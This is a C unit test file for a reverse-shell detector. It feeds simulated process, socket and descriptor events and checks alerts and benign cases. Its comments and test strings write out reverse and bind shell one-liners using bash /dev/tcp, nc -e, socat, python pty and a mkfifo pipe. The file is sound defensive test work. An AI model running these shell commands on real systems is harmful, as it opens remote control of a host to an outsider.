/* SPDX-License-Identifier: Apache-2.0 */
/* Each form of a shell on a connection, and beside each what looks like it and is daily work. */
#include "hidden.h"
#include "host.h"

#define FAR "203.0.113.9"

static void begin(void)
{
	host_begin("reverse_shell");
	host_exec(1, 0, "/usr/lib/systemd/systemd", "/sbin/init");
	host_exec(50, 1, "/bin/bash", "bash");
}

/* bash -i >& /dev/tcp/... 0>&1 */
static void test_dev_tcp(void **state)
{
	(void)state;
	begin();
	host_fork(50, 60);
	host_sock(60, PK_SOCK_ESTABLISHED, 7, 40000, FAR, 4444);
	host_dup(60, 1, 7);
	host_dup(60, 2, 7);
	assert_int_equal(seen.n, 0);
	host_dup(60, 0, 7);
	host_found(1, "T1059.004", PK_HIGH);
	assert_true(seen.finding[0].has_remote);
	assert_int_equal(ntohs(seen.finding[0].key.port[1]), 4444);
	with.stdio = "iii";
	with.cookie = 7;
	host_exec(60, 50, "/bin/bash", "bash -i");
	assert_int_equal(seen.n, 2);
	assert_int_equal(seen.finding[1].fold, seen.finding[0].fold);
	/* what is started in it is the same alert */
	with.stdio = "iii";
	with.cookie = 7;
	host_exec(61, 60, "/usr/bin/env", "env");
	with.stdio = "iii";
	with.cookie = 7;
	host_exec(62, 61, "/bin/sh", "sh -c id");
	assert_int_equal(seen.n, 3);
	assert_int_equal(seen.finding[2].fold, seen.finding[0].fold);
	host_end();
}

/* nc -l -e: accepted, so somebody came to us */
static void test_bind(void **state)
{
	(void)state;
	begin();
	host_exec(60, 50, "/usr/bin/nc.traditional", "nc -l -p 99 -e /bin/sh");
	host_sock(60, PK_SOCK_ACCEPT, 7, 99, FAR, 5555);
	for (unsigned fd = 0; fd < 3; fd++)
		host_dup(60, fd, 7);
	with.stdio = "iii";
	with.cookie = 7;
	host_exec(60, 50, "/bin/sh", "sh");
	host_found(1, "T1059.004", PK_HIGH);
	assert_non_null(strstr(seen.finding[0].detail, "bind shell"));
	host_end();
}

static void python_with_socket(void)
{
	host_exec(60, 50, "/usr/bin/python3.11", "python3 -c import pty");
	host_sock(60, PK_SOCK_ESTABLISHED, 7, 40000, FAR, 4444);
	for (unsigned fd = 0; fd < 2; fd++)
		host_dup(60, fd, 7);
}

/* pty.spawn: the shell itself is on a terminal */
static void test_pty(void **state)
{
	(void)state;
	begin();
	python_with_socket();
	with.stdio = "ttt";
	host_exec(61, 60, "/bin/sh", "/bin/sh");
	host_found(1, "T1059.004", PK_HIGH);
	host_end();
}

/* A script that never touched its own streams, with pipes; its connection is told later. */
static void test_script_pipes(void **state)
{
	(void)state;
	begin();
	host_exec(60, 50, "/usr/bin/perl", "perl x.pl");
	with.stdio = "ppp";
	host_exec(61, 60, "/bin/sh", "sh -i");
	assert_int_equal(seen.n, 0);
	host_sock(60, PK_SOCK_ESTABLISHED, 7, 40000, FAR, 4444);
	host_found(1, "T1059.004", PK_MEDIUM);
	host_end();
}

static void test_socat(void **state)
{
	(void)state;
	begin();
	host_exec(60, 50, "/usr/bin/socat", "socat TCP:h:1 EXEC:sh,pty");
	with.stdio = "ttt";
	host_exec(61, 60, "/bin/sh", "sh");
	host_found(1, "T1059.004", PK_HIGH);
	host_end();
}

/* rm f; mkfifo f; cat f | sh -i 2>&1 | nc h p > f, in whichever order they start */
static void test_fifo(void **state)
{
	(void)state;
	for (int order = 0; order < 2; order++) {
		begin();
		if (order) {
			host_exec(62, 50, "/usr/bin/nc", "nc h 1");
			host_wait(0.1);
		}
		with.stdio = "ppp";
		host_exec(61, 50, "/bin/sh", "sh -i");
		if (!order)
			host_exec(62, 50, "/usr/bin/nc", "nc h 1");
		host_found(1, "T1059.004", PK_HIGH);
		host_end();
	}
}

/* exec 5<>/dev/tcp/...; cat <&5 | while read l; do $l >&5; done */
static void test_own_connection(void **state)
{
	(void)state;
	begin();
	with.stdio = "ipt";
	with.cookie = 7;
	host_exec(61, 50, "/bin/cat", "cat");
	assert_int_equal(seen.n, 0);
	host_fork(50, 62);
	with.stdio = "pii";
	with.cookie = 7;
	host_exec(63, 62, "/usr/bin/id", "id");
	host_found(1, "T1059.004", PK_MEDIUM);
	host_end();
}

/* What it must not take for one. */
static void test_benign(void **state)
{
	(void)state;
	begin();
	/* sshd, with a terminal and (rsync) with sockets of its own */
	host_exec(70, 1, "/usr/sbin/sshd", "sshd: user");
	host_sock(70, PK_SOCK_ACCEPT, 8, 22, FAR, 5555);
	with.stdio = "ttt";
	host_exec(71, 70, "/bin/bash", "-bash");
	with.stdio = "uuu";
	host_exec(72, 70, "/bin/sh", "sh -c rsync --server");
	/* socket activation: systemd puts the connection on the streams and starts the service */
	host_fork(1, 73);
	host_dup(73, 0, 9);
	host_dup(73, 1, 9);
	host_dup(73, 2, 9);
	with.stdio = "iii";
	host_exec(73, 1, "/bin/sh", "sh /usr/lib/service");
	/* a health check by hand: one command reads, the shell itself wrote */
	host_fork(50, 74);
	host_sock(74, PK_SOCK_ESTABLISHED, 10, 40001, "127.0.0.1", 80);
	host_dup(74, 1, 10);
	with.stdio = "itt";
	host_exec(75, 74, "/bin/cat", "cat");
	/* a worker with connections that runs commands, and a script in a pipe */
	host_exec(76, 1, "/usr/bin/python3", "python3 worker.py");
	host_sock(76, PK_SOCK_ESTABLISHED, 11, 40002, FAR, 5672);
	with.stdio = "npp";
	host_exec(77, 76, "/bin/sh", "sh -c make");
	/* a person who looks at a port, and works on later */
	host_exec(78, 50, "/usr/bin/nc", "nc -vz h 22");
	host_wait(30);
	with.stdio = "ppt";
	host_exec(79, 50, "/bin/sh", "sh");
	assert_int_equal(seen.n, 0);
	host_end();
}

static void test_allow(void **state)
{
	(void)state;
	begin();
	host_set("detect.reverse_shell_allow", "jupyter");
	host_exec(60, 1, "/usr/local/bin/jupyter", "jupyter lab");
	host_sock(60, PK_SOCK_ACCEPT, 7, 8888, FAR, 4444);
	for (unsigned fd = 0; fd < 3; fd++)
		host_dup(60, fd, 7);
	with.stdio = "iii";
	host_exec(61, 60, "/bin/sh", "sh");
	assert_int_equal(seen.n, 0);
	host_end();
}

/* Many processes that each put a socket on stdin stay within the bound. */
static void test_bound(void **state)
{
	struct pk_detector_use u = { 0 };

	(void)state;
	begin();
	for (uint32_t pid = 100; pid < 30000; pid++)
		host_dup(pid, 0, pid);
	for (size_t i = 0; i < pk_detectors_n; i++)
		if (strcmp(pk_detectors[i]->name, "reverse_shell") == 0)
			pk_detect_use(seen.detect, i, &u);
	assert_true(u.bytes > 0 && u.bytes <= u.bytes_max);
	host_end();
}

/* Programs that talk on their streams, as of inetd, and end. */
static void many_services(uint64_t now_ns)
{
	static uint32_t pid = 1000;

	host.now_ns = now_ns;
	for (unsigned i = 0; i < 400; i++, pid++) {
		with.stdio = "iii";
		with.cookie = pid;
		host_exec(pid, 1, "/usr/sbin/in.fingerd", "in.fingerd");
		host_exit(pid);
	}
}

/* A program has its streams on a connection, and begins a shell on a terminal a minute later. */
static void wait_then_shell(uint64_t now_ns, unsigned second)
{
	(void)now_ns;
	if (second == 1) {
		host_exec(1, 0, "/usr/lib/systemd/systemd", "/sbin/init");
		host_exec(50, 1, "/bin/bash", "bash");
		python_with_socket();
	}
	if (second % 60 == 0) {
		with.stdio = "ttt";
		host_exec(61, 60, "/bin/sh", "/bin/sh");
	}
}

static void test_hidden_in_flood(void **state)
{
	(void)state;
	host_begin("reverse_shell");
	hidden_run("reverse_shell", many_services, wait_then_shell);
	assert_int_equal(seen.n, 10);
	for (size_t i = 0; i < seen.n; i++) /* because of its streams, not only of its connection */
		assert_int_equal(seen.finding[i].severity, PK_HIGH);
	host_end();
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_dev_tcp),
		cmocka_unit_test(test_bind),
		cmocka_unit_test(test_pty),
		cmocka_unit_test(test_script_pipes),
		cmocka_unit_test(test_socat),
		cmocka_unit_test(test_fifo),
		cmocka_unit_test(test_benign),
		cmocka_unit_test(test_own_connection),
		cmocka_unit_test(test_allow),
		cmocka_unit_test(test_bound),
		cmocka_unit_test(test_hidden_in_flood),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
